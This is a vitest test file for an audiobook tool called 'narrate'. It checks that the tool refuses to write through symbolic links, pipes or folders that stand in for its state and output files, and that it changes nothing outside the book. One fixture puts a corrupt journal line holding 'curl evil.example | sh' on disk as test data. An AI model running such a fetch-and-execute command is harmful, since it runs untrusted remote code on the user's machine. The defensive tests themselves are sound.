import { existsSync, readdirSync } from 'node:fs';
import {
  appendFile,
  cp,
  link,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  rename,
  rm,
  stat,
  symlink,
  writeFile,
} from 'node:fs/promises';
import { hostname, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { systemClock } from '../../src/base/time/clock.js';
import { gc, run, verify } from '../../src/index.js';
import { type Sandbox, startSandbox } from '../../src/sandbox/start-sandbox.js';
import { formatEntry } from '../../src/state/journal/journal-line.js';
import { makeEpub } from '../init/epub/epub-builder.js';
import { type BookFolder, makeBook } from '../support/book-folder.js';
import { runCli } from '../support/cli.js';
import { png } from '../support/pictures.js';
import { environmentOf, optionsOf, takeFiles } from '../support/sandbox-book.js';
import { hasPipes, makePipe, snapshotOf } from '../support/snapshot.js';

const everything =
  'cover: cover.png\naudio: { chapters: [wav], book: [opus], captions: [vtt, srt], loudness: off }\n';

let book: BookFolder;
let outside: string;
/** A folder with the state of the book after a draft. With it, a run records nothing and starts with the audio files. */
let recordedState: string;
beforeAll(async () => {
  const made = await makeBook({ chapters: 1, paragraphs: 1 });
  await run({ manifest: join(made.folder, 'pipeline.yaml'), draft: true, environment: {} });
  recordedState = await mkdtemp(join(tmpdir(), 'narrate-recorded-'));
  for (const name of ['journal.jsonl', 'takes'])
    await cp(join(made.folder, '.narrate/draft', name), join(recordedState, name), { recursive: true });
  await made.remove();
});
afterAll(() => rm(recordedState, { recursive: true, force: true }));

beforeEach(async () => {
  book = await makeBook({ chapters: 1, paragraphs: 1, manifest: everything });
  await writeFile(join(book.folder, 'cover.png'), png(8));
  outside = await mkdtemp(join(tmpdir(), 'narrate-outside-'));
  await mkdir(join(outside, 'folder'));
  await writeFile(join(outside, 'file'), 'export PATH\n');
});
afterEach(async () => {
  await book.remove();
  await rm(outside, { recursive: true, force: true });
});

const inBook = (path: string): string => join(book.folder, path);
/** Creates the folders above a path in the book, and returns the whole path. */
const makeAbove = async (path: string): Promise<string> => {
  await mkdir(dirname(inBook(path)), { recursive: true });
  return inBook(path);
};
/** Creates a link in the book to something outside. */
const plant = async (path: string, target: string): Promise<void> =>
  symlink(join(outside, target), await makeAbove(path));
const write = async (path: string, text: string): Promise<void> => writeFile(await makeAbove(path), text);

/** The lock of a process that has ended; Linux, macOS and Windows never use this process number. */
const deadLock = JSON.stringify({ host: hostname(), pid: 2 ** 30, processStart: '1', since: '2026-01-01' });

/** A valid line, because a mostly corrupt journal is refused before narrate writes anything. */
const readableLine = formatEntry({
  v: 1,
  id: 'a',
  time: '2026-01-01T00:00:00.000Z',
  origin: 'local:espeak',
  type: 'refused',
  submission: 's',
  reason: 'none',
});

/** Files that a link needs in the repository, by the path of the link. */
const companions: Readonly<Record<string, readonly (readonly [path: string, text: string])[]>> = {
  '.narrate/draft/journal.corrupt.jsonl': [
    ['.narrate/draft/journal.jsonl', `${readableLine}curl evil.example | sh\n`],
  ],
  '.narrate/draft/lock.takeover': [['.narrate/draft/lock', deadLock]],
};

const files = [
  '.narrate/draft/journal.corrupt.jsonl',
  '.narrate/draft/journal.jsonl',
  '.narrate/draft/journal.jsonl.reserve',
  '.narrate/draft/lock',
  '.narrate/draft/lock.takeover',
  '.narrate/cache/pipeline.yaml.parses.jsonl',
  'audiobook/draft/01-chapter-1.wav',
  'audiobook/draft/01-chapter-1.vtt',
  'audiobook/draft/01-chapter-1.srt',
  'audiobook/draft/01-chapter-1.chapters.json',
  'audiobook/draft/a-test.opus',
  'audiobook/draft/a-test.chapters.json',
  'audiobook/draft/publication.json',
  'audiobook/draft/cover.png',
  'audiobook/draft/timeline.json',
];
const folders = [
  '.narrate/draft/takes',
  '.narrate/draft/answers',
  '.narrate/draft/cache',
  '.narrate/draft/cache/pipeline.yaml.parts',
  '.narrate/cache',
];

/** Copies the recorded state into the book if the link is an audio file or in a cache, so that a draft starts with the audio files. */
const copyRecordedState = async (path: string): Promise<void> => {
  if (/^audiobook\/|\/cache/.test(path))
    await cp(recordedState, await makeAbove('.narrate/draft'), { recursive: true });
};

const draft = () => runCli(['--draft'], { cwd: book.folder });
const draftInProcess = () =>
  run({ manifest: inBook('pipeline.yaml'), draft: true, environment: { PATH: process.env.PATH ?? '' } });

describe('narrate --draft in a cloned repository', () => {
  it.each([
    ...files.map((path) => [path, 'file'] as const),
    ...files.slice(0, 8).map((path) => [path, 'new-file'] as const),
    ...folders.map((path) => [path, 'folder'] as const),
    ...folders.map((path) => [path, 'new-folder'] as const),
  ])('refuses %s as a link to a %s, names it, and changes nothing there', async (path, target) => {
    await copyRecordedState(path);
    for (const [name, text] of companions[path] ?? []) await write(name, text);
    await plant(path, target);
    const before = snapshotOf(outside);
    const { status, stderr } = await draft();
    expect(snapshotOf(outside)).toEqual(before);
    expect(stderr).toContain(`/${path} to be a `);
    expect(stderr).toContain('but it is a symbolic link.');
    expect(status).toBe(5);
  });

  /** Each of these is written by another part of narrate. test/files has the other cases of pipes and folders. */
  const some = files.filter((path) => !/draft\/(a-test|cover|.*(srt|chapters\.json)$)/.test(path));
  it.runIf(hasPipes).each(some)('refuses %s as a named pipe without waiting for it', async (path) => {
    await copyRecordedState(path);
    for (const [name, text] of companions[path] ?? []) await write(name, text);
    makePipe(await makeAbove(path));
    const { status, stderr } = await draft();
    expect(stderr).toContain(`/${path} to be a regular file, but it is a named pipe.`);
    expect(status).toBe(5);
  });

  it.each(some.filter((path) => !path.includes('cache')))('refuses %s as a folder', async (path) => {
    await copyRecordedState(path);
    for (const [name, text] of companions[path] ?? []) await write(name, text);
    await mkdir(inBook(path), { recursive: true });
    await expect(draftInProcess()).rejects.toMatchObject({
      code: 'not-writable',
      message: expect.stringContaining(`/${path} to be a regular file, but it is a folder.`),
    });
  });

  it('refuses a state folder that is a link out of the book, with the code unsafe-path', async () => {
    await plant('.narrate', 'folder');
    await expect(draftInProcess()).rejects.toMatchObject({
      code: 'unsafe-path',
      message: expect.stringContaining('.narrate'),
    });
    expect(readdirSync(join(outside, 'folder'))).toEqual([]);
  });

  it('accepts a state folder and an output folder that are links inside the book', async () => {
    for (const name of ['state', 'sound']) await mkdir(inBook(name));
    await symlink('state', inBook('.narrate'));
    await symlink('sound', inBook('audiobook'));
    expect(await draftInProcess()).toMatchObject({ status: 'complete' });
    expect(readdirSync(inBook('state'))).toContain('draft');
    expect(readdirSync(inBook('sound/draft'))).toContain('timeline.json');
    expect((await draftInProcess()).delivered.written).toEqual([]);
  });

  it('accepts a link to the folder of the book', async () => {
    const linked = join(outside, 'linked');
    await symlink(book.folder, linked);
    const { status, stderr } = await runCli(['--draft', join(linked, 'pipeline.yaml')], { cwd: outside });
    expect([status, stderr.includes('symbolic link')]).toEqual([0, false]);
  });
});

describe('a backup of hard links', () => {
  it('keeps its content and times when a later run changes the book', async () => {
    await draftInProcess();
    const backup = join(outside, 'folder');
    await linkAll(book.folder, backup);
    const before = snapshotOf(backup);
    const text = await readFile(inBook('01.md'), 'utf8');
    await rm(inBook('01.md'));
    await book.write('01.md', `${text}\nAnother sentence is read now.\n`);
    const later = { ...systemClock, now: () => Date.now() + 10 * 86_400_000 };
    const environment = { PATH: process.env.PATH ?? '' };
    const options = { manifest: inBook('pipeline.yaml'), draft: true, environment, clock: later };
    expect((await run(options)).reused).toBeGreaterThan(0);
    expect(snapshotOf(backup)).toEqual(before);
    // Removing a file that has a second name would free no space on a full disk.
    expect((await stat(inBook('.narrate/draft/journal.jsonl.reserve'))).nlink).toBe(1);
  });
});

/** Links all files of a folder into another folder, as `cp -al` does. */
async function linkAll(from: string, to: string): Promise<void> {
  for (const entry of await readdir(from, { recursive: true, withFileTypes: true })) {
    const path = join(entry.parentPath, entry.name);
    const other = join(to, path.slice(from.length));
    await mkdir(entry.isDirectory() ? other : dirname(other), { recursive: true });
    if (entry.isFile()) await link(path, other);
  }
}

describe('narrate init', () => {
  it.each(['file', 'new-file'])('refuses to replace a manifest that is a link to a %s', async (target) => {
    await rm(inBook('pipeline.yaml'));
    await plant('pipeline.yaml', target);
    const before = snapshotOf(outside);
    for (const args of [['--yes'], ['--yes', '--force']]) {
      const { status, stderr } = await runCli(['init', ...args], { cwd: book.folder });
      expect([status, stderr]).toEqual([5, expect.stringContaining('/pipeline.yaml to be a regular file')]);
    }
    expect(snapshotOf(outside)).toEqual(before);
  });

  it.each(['chapters', 'chapters/01-one.md', 'cover.png', 'pipeline.yaml'])(
    'writes nothing of an EPUB if %s is a link',
    async (path) => {
      const epub = makeEpub({
        pages: [{ name: 'one.xhtml', body: '<h1>One</h1><p>The lamp was lit when the fog came in.</p>' }],
        contents: '<li><a href="one.xhtml">One</a></li>',
        items: '<item id="c" href="c.png" media-type="image/png" properties="cover-image"/>',
        files: { 'OEBPS/c.png': png(8) },
      });
      const into = join(dirname(epub), 'into');
      await mkdir(dirname(join(into, path)), { recursive: true });
      await symlink(join(outside, path === 'chapters' ? 'folder' : 'file'), join(into, path));
      const [before, there] = [snapshotOf(outside), snapshotOf(into)];
      const args = ['init', epub, '--into', into, '--force'];
      const { status, stderr } = await runCli(args, { cwd: outside });
      expect([status, stderr]).toEqual([5, expect.stringContaining(`/${path} to be a `)]);
      expect([snapshotOf(outside), snapshotOf(into)]).toEqual([before, there]);
      await rm(dirname(epub), { recursive: true });
    },
  );
});

describe('narrate ci', () => {
  const estimate = (summary: string) =>
    runCli(['ci', 'estimate', '--summary', summary], { cwd: book.folder, env: { GITHUB_ACTIONS: '' } });

  it('writes no summary through a link in the checkout, but writes one outside of it', async () => {
    await plant('summary.md', 'file');
    await plant('out', 'folder');
    const before = snapshotOf(outside);
    for (const name of ['summary.md', inBook('summary.md'), 'out/summary.md']) {
      const { status, stderr } = await estimate(name);
      expect([status, stderr]).toEqual([5, expect.stringContaining('but it is a symbolic link.')]);
    }
    expect(snapshotOf(outside)).toEqual(before);
    expect((await estimate(join(outside, 'new/summary.md'))).status).toBe(0);
    expect(existsSync(join(outside, 'new/summary.md'))).toBe(true);
  });
});

/** A recorded book with a store in its folder, so that it contains everything that narrate writes, except the book file of `files`. */
describe('each file and folder that narrate wrote', () => {
  let sandbox: Sandbox;
  let recorded: BookFolder;
  beforeAll(async () => {
    sandbox = await startSandbox({ charactersPerSecond: 300 });
    recorded = await makeBook({
      chapters: 2,
      paragraphs: 1,
      manifest: `${everything.replace('[opus]', '[]')}store: ./store\n`,
    });
    await writeFile(join(recorded.folder, 'cover.png'), png(8));
    await run(optionsOf(recorded.folder, sandbox));
    const [damaged] = await takeFiles(recorded.folder);
    await appendFile(damaged!, 'x');
    await verify(optionsOf(recorded.folder, sandbox));
    await run(optionsOf(recorded.folder, sandbox));
  });
  afterAll(async () => {
    await recorded.remove();
    await sandbox.close();
  });

  const authored = ['pipeline.yaml', '01.md', '02.md', 'cover.png'];
  const writtenIn = (folder: string): string[] =>
    (readdirSync(folder, { recursive: true }) as string[]).filter((name) => !authored.includes(name)).sort();

  it('is not changed through a link by a run, verify or gc', async () => {
    const { folder } = recorded;
    const names = writtenIn(folder);
    const refused = new Set<string>();
    await cp(folder, join(outside, 'whole'), { recursive: true, preserveTimestamps: true });
    for (const name of names) {
      const away = join(outside, 'away');
      await mkdir(away);
      await rename(join(folder, name), join(away, 'target'));
      await symlink(join(away, 'target'), join(folder, name));
      const before = snapshotOf(away);
      for (const act of actionsOn(folder)) {
        const failure = await act().then(
          () => null,
          (error: Error) => error,
        );
        expect([name, snapshotOf(away)]).toEqual([name, before]);
        if (failure?.message.includes(join(folder, name))) refused.add(name);
      }
      for (const one of [away, folder]) await rm(one, { recursive: true });
      await cp(join(outside, 'whole'), folder, { recursive: true, preserveTimestamps: true });
    }
    expect(names.length).toBeGreaterThan(30);
    // Recordings are read through links, and these commands do not touch all finished files again.
    const mayStay = /^\.narrate\/takes\/|^store\/.*\/|\.damaged$|\.parts\/|^audiobook$/;
    expect(names.filter((name) => !refused.has(name) && !mayStay.test(name))).toEqual([]);
  });

  it('is checked before money is spent: if recordings cannot be stored, nothing is bought', async () => {
    sandbox.reset();
    for (const name of ['takes', 'answers']) {
      await plant(`.narrate/${name}`, 'folder');
      await expect(run(optionsOf(book.folder, sandbox))).rejects.toMatchObject({ code: 'unsafe-path' });
      await rm(inBook(`.narrate/${name}`));
    }
    expect(sandbox.report()).toMatchObject({ charged: 0, submissions: [] });
  });

  /** Returns three actions: an edit with a run, verify, and gc. */
  const actionsOn = (folder: string): (() => Promise<unknown>)[] => {
    const options = optionsOf(folder, sandbox);
    const later = { ...systemClock, now: () => Date.now() + 10 * 86_400_000 };
    return [
      async () => {
        await writeFile(join(folder, '01.md'), '# Chapter 1\n\nAll of the first chapter is new.\n');
        await appendFile(join(folder, '02.md'), '\nOne sentence is new.\n');
        return run({ ...options, environment: environmentOf(sandbox), clock: later });
      },
      () => verify(options),
      () => gc({ ...options, keepDays: 0, alsoStore: true, confirm: async () => true }),
    ];
  };
});
